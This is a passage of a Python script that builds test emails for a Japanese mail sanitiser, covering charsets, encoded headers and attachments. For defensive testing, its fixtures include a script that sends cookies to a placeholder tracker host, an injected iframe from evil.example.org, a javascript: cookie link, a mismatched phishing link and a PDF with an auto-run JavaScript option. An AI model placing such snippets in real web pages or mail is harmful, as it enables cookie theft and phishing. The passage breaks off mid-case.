#!/usr/bin/env python3
"""Generate the golden-test inputs: testdata/golden/NNN-short-name.eml (+ NNN-short-name.toml).

Each message is a real-looking mail that exercises one behaviour of the sanitiser: Japanese
charsets (ISO-2022-JP and its CP50220 extensions, Shift_JIS/CP932, EUC-JP, UTF-8), header
encodings, HTML newsletters, attachments, signed/encrypted parts, encoded blocks in text and
structural tricks. The expected clean output of each is NNN-short-name.out / .actions, written
by `BLESS=1 cargo test --test golden` and then READ by a person before being committed.

The bytes are assembled by hand (not with Python's email generator) because many cases are
about odd structure. Everything is deterministic: run `python3 make_inputs.py` in this
directory and `git diff` shows nothing. Never put real malware (or the EICAR string) here: the
"executables" are inert MZ/PE stubs.

Usage: python3 make_inputs.py [OUTDIR]   (default: the directory of this script)
"""
import base64
import binascii
import io
import os
import random
import struct
import sys
import zipfile
import zlib

CRLF = b"\r\n"
DATE = "Tue, 18 Nov 2025 10:15:00 +0900"


# ---------------------------------------------------------------- encoding helpers

def crlf(s):
    """str or bytes with LF line ends -> bytes with CRLF line ends."""
    if isinstance(s, str):
        s = s.encode("utf-8")
    return s.replace(b"\r\n", b"\n").replace(b"\n", b"\r\n")


def b64lines(data, width=76):
    s = base64.b64encode(data).decode("ascii")
    return "\n".join(s[i:i + width] for i in range(0, len(s), width)) + "\n"


def qp(data):
    """Quoted-printable (RFC 2045) with soft line breaks, LF line ends."""
    return binascii.b2a_qp(data, istext=True, header=False).decode("ascii").replace("\r\n", "\n") + "\n"


def sjis_to_jis(b1, b2):
    if b1 >= 0xE0:
        b1 -= 0x40
    j1 = (b1 - 0x81) * 2 + 0x21
    if b2 >= 0x9F:
        return j1 + 1, b2 - 0x7E
    return j1, b2 - (0x20 if b2 >= 0x80 else 0x1F)


def jis_to_sjis(j1, j2):
    s1 = (j1 + 1) // 2 + (0x70 if j1 <= 0x5E else 0xB0)
    if j1 % 2:
        s2 = j2 + (0x1F if j2 <= 0x5F else 0x20)
    else:
        s2 = j2 + 0x7E
    return bytes([s1, s2])


# CP932 code points in the NEC-selected IBM extension rows (0xED40-0xEEFC), by character: the
# ISO-2022-JP (CP50220) encoding of an IBM extension character uses these rows (0x79-0x7C).
NEC_SELECTED = {}
for _b1 in (0xED, 0xEE):
    for _b2 in list(range(0x40, 0x7F)) + list(range(0x80, 0xFD)):
        try:
            _c = bytes([_b1, _b2]).decode("cp932")
        except UnicodeDecodeError:
            continue
        NEC_SELECTED.setdefault(_c, bytes([_b1, _b2]))


def iso2022jp(text, halfwidth_kana=False):
    """ISO-2022-JP as Microsoft's CP50220 writes it: JIS X 0208 plus NEC row 13 (① ㈱ №) and
    the NEC-selected IBM extensions (髙 﨑), every line back in ASCII before its end. With
    halfwidth_kana, half-width katakana are written in JIS X 0201 katakana (ESC ( I) as CP50221
    does, instead of being widened."""
    out = bytearray()
    mode = "ascii"

    def switch(m):
        nonlocal mode
        if mode != m:
            out.extend({"ascii": b"\x1b(B", "jis": b"\x1b$B", "kana": b"\x1b(I"}[m])
            mode = m

    for ch in text:
        if ord(ch) < 0x80:
            switch("ascii")
            out.append(ord(ch))
            continue
        if halfwidth_kana and 0xFF61 <= ord(ch) <= 0xFF9F:
            switch("kana")
            out.append(ord(ch) - 0xFF61 + 0x21)
            continue
        sj = ch.encode("cp932")
        if len(sj) != 2:
            raise ValueError("no JIS code for %r" % ch)
        if sj[0] >= 0xFA:
            sj = NEC_SELECTED[ch]
        j1, j2 = sjis_to_jis(sj[0], sj[1])
        assert jis_to_sjis(j1, j2).decode("cp932") == ch, ch
        switch("jis")
        out.extend([j1, j2])
    switch("ascii")
    return bytes(out)


# Python codec for a MIME charset label where they differ (Shift_JIS as Windows writes it).
PYCODEC = {"SHIFT_JIS": "cp932", "EUC-JP": "euc_jp"}


def ew(text, charset="ISO-2022-JP", per_word=12, kana=False):
    """RFC 2047 B encoded words, each self-contained, joined by folding whitespace."""
    words = []
    for i in range(0, len(text), per_word):
        chunk = text[i:i + per_word]
        raw = iso2022jp(chunk, kana) if charset.upper() == "ISO-2022-JP" else chunk.encode(PYCODEC.get(charset.upper(), charset))
        words.append("=?%s?B?%s?=" % (charset, base64.b64encode(raw).decode("ascii")))
    return "\n ".join(words)


def addr(name, email, charset="ISO-2022-JP"):
    return "%s <%s>" % (ew(name, charset), email)


def headers(subject, frm=None, to=None, extra=(), date=DATE, msgid=None, n=0):
    """A standard top-level header block as a list of lines (values may contain folds)."""
    lines = [
        "Return-Path: <%s>" % "info@partner.example.co.jp",
        "Received: from mx.partner.example.co.jp (mx.partner.example.co.jp [203.0.113.25])\n"
        "\tby mx.city.example.lg.jp (Postfix) with ESMTPS id 4dB7x12abcz%d\n"
        "\tfor <shimin@city.example.lg.jp>; %s" % (n, date),
        "From: %s" % (frm or addr("株式会社パートナー商事 営業部 田中", "tanaka@partner.example.co.jp")),
        "To: %s" % (to or addr("市民課 山田", "yamada@city.example.lg.jp")),
        "Subject: %s" % subject,
        "Date: %s" % date,
        "Message-ID: <%s>" % (msgid or "20251118101500.%04d.golden@partner.example.co.jp" % n),
    ]
    lines += list(extra)
    return lines


def message(head_lines, body, mime=None):
    """Top-level headers + MIME headers + body, CRLF.

    body may be str (encoded as UTF-8) or bytes; LF line ends are turned into CRLF."""
    mime = mime if mime is not None else []
    head = "\n".join(list(head_lines) + ["MIME-Version: 1.0"] + list(mime)) + "\n\n"
    if isinstance(body, str):
        body = body.encode("utf-8")
    return crlf(head.encode("utf-8") + body)


def part(ctype, body, cte=None, extra=()):
    """A body part (headers + body), as bytes with LF line ends (message() turns them to CRLF)."""
    h = ["Content-Type: %s" % ctype]
    if cte:
        h.append("Content-Transfer-Encoding: %s" % cte)
    h += list(extra)
    if isinstance(body, str):
        body = body.encode("utf-8")
    return ("\n".join(h) + "\n\n").encode("utf-8") + body


def multipart(boundary, parts, preamble=b"", epilogue=b"", final=True):
    out = bytearray(preamble)
    for p in parts:
        out += b"--" + boundary.encode("ascii") + b"\n" + p
        if not p.endswith(b"\n"):
            out += b"\n"
    if final:
        out += b"--" + boundary.encode("ascii") + b"--\n"
    out += epilogue
    return bytes(out)


def attachment(ctype, filename, data, disposition="attachment"):
    return part(
        '%s; name="%s"' % (ctype, filename),
        b64lines(data),
        "base64",
        ['Content-Disposition: %s; filename="%s"' % (disposition, filename)],
    )


# ---------------------------------------------------------------- attachment payloads

ZIP_TIME = (2025, 11, 17, 9, 30, 0)


def make_zip(members, encrypted=False):
    """A zip archive from (name, bytes) pairs, fixed timestamps so the output is reproducible."""
    if encrypted:
        return make_encrypted_zip(members)
    b = io.BytesIO()
    with zipfile.ZipFile(b, "w") as z:
        for name, data in members:
            info = zipfile.ZipInfo(name, ZIP_TIME)
            info.compress_type = zipfile.ZIP_DEFLATED
            info.external_attr = 0o644 << 16
            z.writestr(info, data, compresslevel=6)
    return b.getvalue()


def make_encrypted_zip(members):
    """A ZipCrypto-flagged archive (PPAP). The 'ciphertext' is pseudo-random filler: what matters
    is the general-purpose flag bit 0, which is all a sanitiser can see without the password."""
    rnd = random.Random(2231)
    local = bytearray()
    central = bytearray()
    for name, data in members:
        fn = name.encode("ascii")
        body = bytes(rnd.randrange(256) for _ in range(12 + len(data)))
        crc = zlib.crc32(data) & 0xFFFFFFFF
        off = len(local)
        dt = ((ZIP_TIME[3] << 11) | (ZIP_TIME[4] << 5) | (ZIP_TIME[5] // 2),
              ((ZIP_TIME[0] - 1980) << 9) | (ZIP_TIME[1] << 5) | ZIP_TIME[2])
        local += struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 1, 0, dt[0], dt[1], crc,
                             len(body), len(data), len(fn), 0) + fn + body
        central += struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 1, 0, dt[0], dt[1],
                               crc, len(body), len(data), len(fn), 0, 0, 0, 0, 0o644 << 16,
                               off) + fn
    end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(members), len(members), len(central),
                      len(local), 0)
    return bytes(local + central + end)


def make_pdf(text, javascript=False):
    objs = ["<< /Type /Catalog /Pages 2 0 R%s >>" % (" /OpenAction 5 0 R" if javascript else ""),
            "<< /Type /Pages /Kids [6 0 R] /Count 1 >>",
            "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"]
    content = "BT /F1 12 Tf 72 720 Td (%s) Tj ET" % text
    objs.append("<< /Length %d >>\nstream\n%s\nendstream" % (len(content), content))
    objs.append("<< /S /JavaScript /JS (app.alert\\('Hello'\\);) >>" if javascript else "<< >>")
    objs.append("<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] "
                "/Resources << /Font << /F1 3 0 R >> >> /Contents 4 0 R >>")
    out = io.BytesIO()
    out.write(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offs = []
    for n, o in enumerate(objs, 1):
        offs.append(out.tell())
        out.write(("%d 0 obj\n%s\nendobj\n" % (n, o)).encode("latin-1"))
    x = out.tell()
    out.write(("xref\n0 %d\n0000000000 65535 f \n" % (len(objs) + 1)).encode())
    for o in offs:
        out.write(("%010d 00000 n \n" % o).encode())
    out.write(("trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n"
               % (len(objs) + 1, x)).encode())
    return out.getvalue()


CT_XML = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Types xmlns="http://schemas.'
          'openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType='
          '"application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" '
          'ContentType="application/xml"/>%s</Types>')


def make_docx(paragraph):
    return make_zip([
        ("[Content_Types].xml", CT_XML % '<Override PartName="/word/document.xml" ContentType='
         '"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>'),
        ("_rels/.rels", '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://'
         'schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type='
         '"http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" '
         'Target="word/document.xml"/></Relationships>'),
        ("word/document.xml", '<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="http:'
         '//schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>%s'
         '</w:t></w:r></w:p></w:body></w:document>' % paragraph),
    ])


def make_xlsm(cell):
    return make_zip([
        ("[Content_Types].xml", CT_XML % '<Default Extension="bin" ContentType="application/'
         'vnd.ms-office.vbaProject"/><Override PartName="/xl/workbook.xml" ContentType="'
         'application/vnd.ms-excel.sheet.macroEnabled.main+xml"/>'),
        ("_rels/.rels", '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://'
         'schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type='
         '"http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" '
         'Target="xl/workbook.xml"/></Relationships>'),
        ("xl/workbook.xml", '<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="http://'
         'schemas.openxmlformats.org/spreadsheetml/2006/main"><sheets><sheet name="%s" '
         'sheetId="1"/></sheets></workbook>' % cell),
        ("xl/_rels/workbook.xml.rels", '<?xml version="1.0" encoding="UTF-8"?><Relationships '
         'xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship '
         'Id="rId9" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" '
         'Target="vbaProject.bin"/></Relationships>'),
        ("xl/vbaProject.bin", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(range(256)) * 8),
    ])


def make_exe():
    """An inert PE stub: MZ header, DOS stub message, PE signature. Not runnable."""
    dos = bytearray(b"MZ" + b"\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00")
    dos += b"\xb8" + b"\x00" * 7 + b"\x40" + b"\x00" * 35
    dos += struct.pack("<I", 0x80)
    dos += b"\x0e\x1f\xba\x0e\x00\xb4\x09\xcd\x21\xb8\x01\x4c\xcd\x21"
    dos += b"This program cannot be run in DOS mode.\r\r\n$"
    dos += b"\x00" * (0x80 - len(dos))
    dos += b"PE\x00\x00" + struct.pack("<HHIIIHH", 0x14C, 0, 0x6553F100, 0, 0, 0xE0, 0x102)
    dos += b"\x00" * 64
    return bytes(dos)


def make_png(w=4, h=4, comment=b"Comment\x00GPS 35.6895N 139.6917E"):
    raw = b"".join(b"\x00" + bytes((x * 40 + y * 20) % 256 for x in range(w * 3)) for y in range(h))

    def chunk(t, d):
        c = struct.pack(">I", len(d)) + t + d
        return c + struct.pack(">I", zlib.crc32(t + d) & 0xFFFFFFFF)
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", w, h, 8, 2, 0, 0, 0))
            + chunk(b"tEXt", comment) + chunk(b"IDAT", zlib.compress(raw, 9)) + chunk(b"IEND", b""))


def make_jpeg():
    """A valid 8x8 grey baseline JPEG with an Exif APP1 (camera make) that must not survive a
    re-encode. One Huffman code per table: DC category 0, AC end-of-block."""
    def seg(marker, payload):
        return b"\xff" + bytes([marker]) + struct.pack(">H", len(payload) + 2) + payload
    tiff = b"MM\x00\x2a\x00\x00\x00\x08" + struct.pack(">H", 1) + struct.pack(
        ">HHII", 0x010F, 2, 10, 26) + b"\x00\x00\x00\x00" + b"GoldenCam\x00"
    out = b"\xff\xd8"
    out += seg(0xE0, b"JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00")
    out += seg(0xE1, b"Exif\x00\x00" + tiff)
    out += seg(0xDB, b"\x00" + bytes([1] * 64))
    out += seg(0xC0, b"\x08\x00\x08\x00\x08\x01\x01\x11\x00")
    out += seg(0xC4, b"\x00" + bytes([1] + [0] * 15) + b"\x00")
    out += seg(0xC4, b"\x10" + bytes([1] + [0] * 15) + b"\x00")
    out += seg(0xDA, b"\x01\x01\x00\x00\x3f\x00")
    out += b"\x3f" + b"\xff\xd9"
    return out


def fake_der(seed, n):
    rnd = random.Random(seed)
    body = bytes(rnd.randrange(256) for _ in range(n))
    return b"\x30\x82" + struct.pack(">H", len(body) + 11) + b"\x06\x09\x2a\x86\x48\x86\xf7\x0d\x01\x07\x02" + body


def armored(kind, seed, lines=8):
    rnd = random.Random(seed)
    data = bytes(rnd.randrange(256) for _ in range(lines * 48))
    s = base64.b64encode(data).decode("ascii")
    body = "\n".join(s[i:i + 64] for i in range(0, len(s), 64))
    return ("-----BEGIN PGP %s-----\n\n%s\n=%s\n-----END PGP %s-----\n"
            % (kind, body, base64.b64encode(data[:3]).decode("ascii"), kind))


# ---------------------------------------------------------------- common texts

GREETING = """株式会社パートナー商事の田中でございます。
いつも大変お世話になっております。

"""
SIGNATURE = """
--
株式会社パートナー商事 営業部
田中 一郎（たなか いちろう）
〒100-0001 東京都千代田区千代田1-1-1
TEL: 03-1234-5678
"""
BODY_JA = GREETING + """先日ご依頼いただきました「令和7年度 窓口業務委託」の見積書を
お送りいたします。内容をご確認のうえ、ご不明な点がございましたら
お気軽にお問い合わせください。

・納期：令和7年12月5日（金）
・金額：1,234,000円（税込）

何卒よろしくお願い申し上げます。
""" + SIGNATURE

HTML_NEWSLETTER = """<!DOCTYPE html>
<html lang="ja">
<head>
<meta charset="utf-8">
<title>自治体DXニュース 第42号</title>
<style type="text/css">
body { font-family: "Hiragino Kaku Gothic ProN", Meiryo, sans-serif; }
.hidden-preheader { display:none; }
td.price { color: #c00; }
</style>
<script type="text/javascript">
  var t = new Image(); t.src = "https://tracker.example.com/open?uid=8812&c=" + document.cookie;
</script>
</head>
<body onload="init()">
<div class="hidden-preheader" style="display:none;max-height:0;overflow:hidden">今なら無料！プレヘッダー用の隠しテキスト</div>
<!-- 配信システム: MailMagazine Pro v3 / 隠しコメントは表示しない -->
<h1>自治体DXニュース 第42号</h1>
<p>いつも「自治体DXニュース」をご購読いただき、ありがとうございます。<br>
今号では、<strong>ガバメントクラウド移行</strong>の最新動向をお届けします。</p>
<h2>今月のトピック</h2>
<ul>
  <li>標準化対象20業務の移行スケジュール</li>
  <li>LGWAN-ASPサービスの新規登録状況</li>
  <li>セキュリティポリシーガイドラインの改定（令和7年版）</li>
</ul>
<h2>セミナーのご案内</h2>
<table border="1" cellpadding="4">
  <tr><th>日程</th><th>会場</th><th>定員</th></tr>
  <tr><td>12月3日（水）</td><td>東京会場</td><td class="price">50名</td></tr>
  <tr><td>12月10日（水）</td><td>大阪会場</td><td class="price">30名</td></tr>
</table>
<ol>
  <li>お申し込みは<a href="https://seminar.example.com/apply?id=42">こちらのページ</a>から</li>
  <li>資料のダウンロードは<a href="http://dl.example.net/files/dx42.pdf">PDF（2.3MB）</a></li>
</ol>
<p><img src="https://cdn.example.com/img/banner.png" alt="年末特別セミナー開催" width="600" height="120">
<img src="https://tracker.example.com/pixel.gif?uid=8812" width="1" height="1" alt=""></p>
<div hidden>このテキストはhidden属性で隠されています</div>
<p style="font-size:10px">配信停止は<a href="https://news.example.com/unsubscribe?u=8812">こちら</a>。
&copy; 2025 自治体DXニュース編集部 &amp; 株式会社サンプル</p>
<script>document.write('<iframe src="https://evil.example.org/x"></iframe>');</script>
</body>
</html>
"""

LINKS_HTML = """<html><body>
<p>市民課 各位</p>
<p>研修資料を共有します。</p>
<ul>
<li>資料一覧：<a href="https://portal.example.lg.jp/kensyu/2025/index.html">研修ポータル</a></li>
<li>申込フォーム：<a href="http://forms.example.com/f/abc123?ref=mail&amp;lang=ja">申込はこちら</a></li>
<li>URLそのまま：<a href="https://www.example.org/path/file.pdf">https://www.example.org/path/file.pdf</a></li>
<li>表示と違うリンク：<a href="http://login.phish.example.net/city/">https://portal.example.lg.jp/login</a></li>
<li>問い合わせ：<a href="mailto:kensyu@example.lg.jp">kensyu@example.lg.jp</a></li>
<li>スクリプト：<a href="javascript:alert(document.cookie)">詳細を表示</a></li>
</ul>
<p>本文中のURL https://plain.example.jp/news?id=7 も確認してください。</p>
</body></html>
"""

LINKS_TEXT = """市民課 各位

研修資料を共有します。

・研修ポータル https://portal.example.lg.jp/kensyu/2025/index.html
・申込フォーム http://forms.example.com/f/abc123?ref=mail&lang=ja
・FTPサーバ ftp://files.example.com/pub/
・<https://www.example.org/path/file.pdf>
・www.example.jp/whatsnew もご覧ください。

よろしくお願いします。
"""


# ---------------------------------------------------------------- the cases

CASES = []


def case(name, data, toml=None):
    CASES.append((name, data, toml))


def build():
    # --- 001-011: body charsets -------------------------------------------------------------
    case("001-iso2022jp-plain", message(
        headers(ew("【ご連絡】見積書送付の件"), n=1),
        iso2022jp(BODY_JA),
        ['Content-Type: text/plain; charset="ISO-2022-JP"', "Content-Transfer-Encoding: 7bit"]))

    cp50220 = GREETING + """下記のとおり御案内申し上げます。

① 会場：髙島屋ビル ７階 第２会議室（﨑山様ご手配）
② 主催：㈱パートナー商事 ／ ㈲サンプル工業
③ 日時：令和７年１２月１日（月）１０：００～１２：００
④ 参加費：無料 №１２３４

IBM拡張文字：髙 﨑 昻 ⅰ ⅱ ⅲ ￢ ∵
NEC特殊文字：㍉ ㌔ ㌢ ㍍ ㎜ ㎝ ㎞ ㏄ ㍻ ≒ ≡ ∫ ∮ √ ⊥ ∠ ∟ ⊿
""" + SIGNATURE
    case("002-iso2022jp-cp50220", message(
        headers(ew("①【ご案内】㈱パートナー商事 髙橋より"), n=2),
        iso2022jp(cp50220),
        ['Content-Type: text/plain; charset=ISO-2022-JP', "Content-Transfer-Encoding: 7bit"]))

    kana = GREETING + """ｼｽﾃﾑﾒﾝﾃﾅﾝｽのお知らせです。
ﾒﾝﾃﾅﾝｽ日時：11月29日（土）22:00～翌6:00
対象：ｸﾞﾙｰﾌﾟｳｪｱ、ﾌｧｲﾙｻｰﾊﾞ
ご不便をおかけしますが、ご協力をお願いいたします。
""" + SIGNATURE
    case("003-iso2022jp-halfwidth-kana", message(
        headers(ew("ｼｽﾃﾑﾒﾝﾃﾅﾝｽのお知らせ", kana=True), n=3),
        iso2022jp(kana, halfwidth_kana=True),
        ['Content-Type: text/plain; charset=iso-2022-jp', "Content-Transfer-Encoding: 7bit"]))

    case("004-shiftjis-8bit", message(
        headers(ew("資料送付の件（Shift_JIS）", "Shift_JIS"), n=4),
        (BODY_JA + "ソ表能予十申（5C問題の文字）\\マーク\n").encode("cp932"),
        ['Content-Type: text/plain; charset="Shift_JIS"', "Content-Transfer-Encoding: 8bit"]))

    cp932 = GREETING + """Windowsで作成したメールです。
波ダッシュ：10時～12時、全角チルダ～
双柱：A∥B、全角マイナス：－5度、否定：￢
丸数字：①②③④⑤⑥⑦⑧⑨⑩ ⑪⑫⑬⑭⑮⑯⑰⑱⑲⑳
ローマ数字：ⅠⅡⅢⅣⅤ ⅰⅱⅲ
単位：㍉㌔㌢㍍㌘㌧㌃㌶㍑㍗ 会社：㈱㈲㈹
異体字：髙橋 﨑 德
""" + SIGNATURE
    case("005-cp932-windows31j", message(
        headers(ew("①②③ 機種依存文字テスト ㈱", "Shift_JIS"), n=5),
        cp932.encode("cp932"),
        ['Content-Type: text/plain; charset=Windows-31J', "Content-Transfer-Encoding: 8bit"]))

    eucjp = GREETING + """EUC-JPで送信しています（UNIX系メーラーより）。
住民基本台帳システムの更新について、下記のとおりご連絡します。
　記
一、作業日：令和７年１２月６日
二、影響範囲：窓口端末すべて
""" + SIGNATURE
    case("006-eucjp-8bit", message(
        headers(ew("住基システム更新のご連絡", "EUC-JP"), n=6),
        eucjp.encode("euc_jp"),
        ['Content-Type: text/plain; charset=EUC-JP', "Content-Transfer-Encoding: 8bit"]))

    case("007-utf8-base64", message(
        headers(ew("議事録の送付（UTF-8）", "UTF-8"), n=7),
        b64lines((GREETING + """第3回 地域防災会議の議事録をお送りします。

1. 開会
2. 避難所運営マニュアルの改訂について
   - 要配慮者スペースの確保 🏠
   - 多言語掲示（English / 中文 / 한국어 / Tiếng Việt）
3. 閉会
""" + SIGNATURE).encode("utf-8")),
        ['Content-Type: text/plain; charset="UTF-8"', "Content-Transfer-Encoding: base64"]))

    case("008-utf8-qp", message(
        headers(ew("ご質問への回答", "UTF-8"), n=8),
        qp((GREETING + """お問い合わせいただいた件について回答いたします。
ふるさと納税の返礼品の発送は、12月中旬を予定しております。
なお、ワンストップ特例申請書の提出期限は令和8年1月10日（必着）です。
＝＝＝＝＝＝＝＝＝＝＝＝＝＝＝＝＝＝＝＝＝＝＝＝＝＝＝＝＝＝＝＝＝＝＝＝＝＝＝＝
長い行：この行はquoted-printableのソフト改行で分割されるほど長い一文として書かれており、受信側で一行に戻されることを確認するためのものです。
""" + SIGNATURE).encode("utf-8")),
        ['Content-Type: text/plain; charset=utf-8', "Content-Transfer-Encoding: quoted-printable"]))

    case("009-unlabelled-sjis", message(
        headers(ew("文字コード指定なし"), n=9),
        (GREETING + """このメールは古いメーラーから送信されたため、charsetの指定がありません。
本文はShift_JISで書かれています。
市役所本庁舎の駐車場工事について、ご迷惑をおかけしております。
工事期間中は第２駐車場をご利用ください。
""" + SIGNATURE).encode("cp932"),
        ["Content-Type: text/plain", "Content-Transfer-Encoding: 8bit"]))

    case("010-mislabelled-iso2022jp-sjis", message(
        headers(ew("ラベル誤り（ISO-2022-JPと宣言、実際はShift_JIS）"), n=10),
        (GREETING + """このメールはcharset=ISO-2022-JPと宣言されていますが、
本文の実体はShift_JISの8ビットデータです。
文字化けせずに読めれば正しく判定されています。
""" + SIGNATURE).encode("cp932"),
        ["Content-Type: text/plain; charset=ISO-2022-JP", "Content-Transfer-Encoding: 7bit"]))

    case("011-mislabelled-usascii-utf8", message(
        headers(ew("ラベル誤り（us-ascii と宣言、実際は UTF-8）", "UTF-8"), n=11),
        (GREETING + """このメールはcharset=us-asciiと宣言されていますが、本文はUTF-8です。
Café au lait – naïve résumé — “quotes”.
""" + SIGNATURE).encode("utf-8"),
        ["Content-Type: text/plain; charset=us-ascii", "Content-Transfer-Encoding: 8bit"]))

    # --- 012-016: header encodings ----------------------------------------------------------
    subj = "【重要】令和７年度 補助金交付申請の受付開始について"
    raw = iso2022jp(subj)
    # cut the JIS byte string at odd offsets inside the two-byte run, so that each encoded word
    # alone holds half a character (and the escape sequences sit in different words)
    cuts = [0, 7, 18, 29, len(raw)]
    words = ["=?ISO-2022-JP?B?%s?=" % base64.b64encode(raw[a:b]).decode("ascii")
             for a, b in zip(cuts, cuts[1:])]
    case("012-subject-split-iso2022jp-words", message(
        headers("\n ".join(words), n=12),
        iso2022jp(GREETING + "件名のエンコード語が文字の途中で分割されています。\n件名が正しく復元されることを確認してください。\n" + SIGNATURE),
        ["Content-Type: text/plain; charset=ISO-2022-JP", "Content-Transfer-Encoding: 7bit"]))

    u = "会議室予約システム🗓️の更新完了のお知らせ".encode("utf-8")
    cuts = [0, 5, 13, 22, 40, len(u)]
    words = ["=?UTF-8?B?%s?=" % base64.b64encode(u[a:b]).decode("ascii")
             for a, b in zip(cuts, cuts[1:])]
    case("013-subject-split-utf8-words", message(
        headers(" ".join(words), n=13),
        GREETING + "件名のUTF-8エンコード語が、マルチバイト文字の途中で分割されています。\n" + SIGNATURE,
        ["Content-Type: text/plain; charset=UTF-8", "Content-Transfer-Encoding: 8bit"]))

    def q_word(text, charset="UTF-8"):
        out = []
        for b in text.encode(charset):
            c = chr(b)
            if c == " ":
                out.append("_")
            elif c.isalnum() and b < 128:
                out.append(c)
            else:
                out.append("=%02X" % b)
        return "=?%s?Q?%s?=" % (charset, "".join(out))
    case("014-q-encoding", message(
        headers(q_word("Re: 研修日程 (12/3) の件") + " " + q_word("確認"),
                frm="%s <mueller@example.de>" % q_word("Jürgen Müller", "ISO-8859-1"), n=14,
                to="%s <shimin@city.example.lg.jp>" % q_word("市民課", "iso2022_jp")
                .replace("iso2022_jp", "iso-2022-jp")),
        "Hello,\n\nthe training dates are fine with us. Grüße aus München.\n\nJürgen Müller\n",
        ["Content-Type: text/plain; charset=UTF-8", "Content-Transfer-Encoding: 8bit"]))

    case("015-subject-raw-utf8", message(
        headers("会議のお知らせ（11月25日 14時〜 第１委員会室）",
                frm='"鈴木 花子" <hanako.suzuki@example.ne.jp>', n=15,
                to="山田 太郎 <yamada@city.example.lg.jp>"),
        "山田様\n\n件名と差出人名がエンコードされずに8ビットのUTF-8で書かれています（RFC 6532形式）。\n\n鈴木\n",
        ["Content-Type: text/plain; charset=UTF-8", "Content-Transfer-Encoding: 8bit"]))

    case("016-subject-raw-jis", message(
        headers(iso2022jp("住民票の写しの請求について").decode("ascii"), n=16,
                frm=iso2022jp("佐藤 次郎").decode("ascii") + " <sato@example.or.jp>"),
        iso2022jp("古いメーラーは件名にJISコードをそのまま書くことがありました。\n佐藤\n"),
        ["Content-Type: text/plain; charset=ISO-2022-JP", "Content-Transfer-Encoding: 7bit"]))

    # --- 017-019: attachment names ----------------------------------------------------------
    def pct(b):
        return "".join(chr(c) if (chr(c).isalnum() and c < 128) or chr(c) in "-._" else "%%%02X" % c for c in b)
    name1 = "令和7年度_窓口業務委託_見積書（最終版）.pdf".encode("utf-8")
    p1 = pct(name1)
    segs = [p1[i:i + 45] for i in range(0, len(p1), 45)]
    # never cut a %XX escape in half
    fixed, carry = [], ""
    for s in segs:
        s = carry + s
        k = s.rfind("%", max(0, len(s) - 2))
        if k != -1 and len(s) - k < 3:
            carry, s = s[k:], s[:k]
        else:
            carry = ""
        fixed.append(s)
    if carry:
        fixed.append(carry)
    cont = ";\n ".join("filename*%d*=%s%s" % (i, "UTF-8''" if i == 0 else "", s)
                       for i, s in enumerate(fixed))
    name2 = "説明資料.docx"
    sjname = pct(name2.encode("cp932"))
    case("017-rfc2231-filenames", message(
        headers(ew("見積書と説明資料の送付"), n=17),
        multipart("----=_Part_17_1234567.1763428500000", [
            part("text/plain; charset=ISO-2022-JP", iso2022jp(BODY_JA), "7bit"),
            part("application/pdf", b64lines(make_pdf("Estimate 2025")), "base64",
                 ["Content-Disposition: attachment;\n " + cont]),
            part("application/vnd.openxmlformats-officedocument.wordprocessingml.document",
                 b64lines(make_docx("説明資料")), "base64",
                 ["Content-Disposition: attachment; filename*=shift_jis'ja'" + sjname]),
            part("text/csv", "番号,氏名\n1,山田\n".encode("cp932"), "8bit",
                 ["Content-Disposition: attachment;\n filename*0*=iso-2022-jp''"
                  + pct(iso2022jp("名簿一覧")) + ";\n filename*1=.csv"]),
        ], preamble=b"This is a multi-part message in MIME format.\n"),
        ['Content-Type: multipart/mixed;\n boundary="----=_Part_17_1234567.1763428500000"']))

    n1 = iso2022jp("【至急】請求書_11月分.pdf")
    n1w = ["=?ISO-2022-JP?B?%s?=" % base64.b64encode(x).decode("ascii") for x in (n1[:9], n1[9:])]
    case("018-encoded-word-filenames", message(
        headers(ew("請求書送付のご案内"), n=18),
        multipart("=_NextPart_018", [
            part("text/plain; charset=ISO-2022-JP", iso2022jp(GREETING + "11月分の請求書と明細をお送りします。\n" + SIGNATURE), "7bit"),
            part('application/pdf;\n name="%s"' % " ".join(n1w), b64lines(make_pdf("Invoice 11")), "base64",
                 ['Content-Disposition: attachment;\n filename="%s"' % " ".join(n1w)]),
            part('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet;\n name="%s"'
                 % ew("利用明細（11月）.xlsx", "UTF-8", 40),
                 b64lines(make_zip([("[Content_Types].xml", CT_XML % "")])), "base64",
                 ['Content-Disposition: attachment;\n filename="%s"' % ew("利用明細（11月）.xlsx", "UTF-8", 40)]),
        ]),
        ['Content-Type: multipart/mixed; boundary="=_NextPart_018"']))

    case("019-raw-utf8-filename", message(
        headers(ew("写真の送付", "UTF-8"), n=19),
        multipart("Apple-Mail=_019", [
            part("text/plain; charset=utf-8", "先日の地域行事の写真です。\n", "8bit"),
            part('image/jpeg; name="秋祭り_集合写真.jpg"', b64lines(make_jpeg()), "base64",
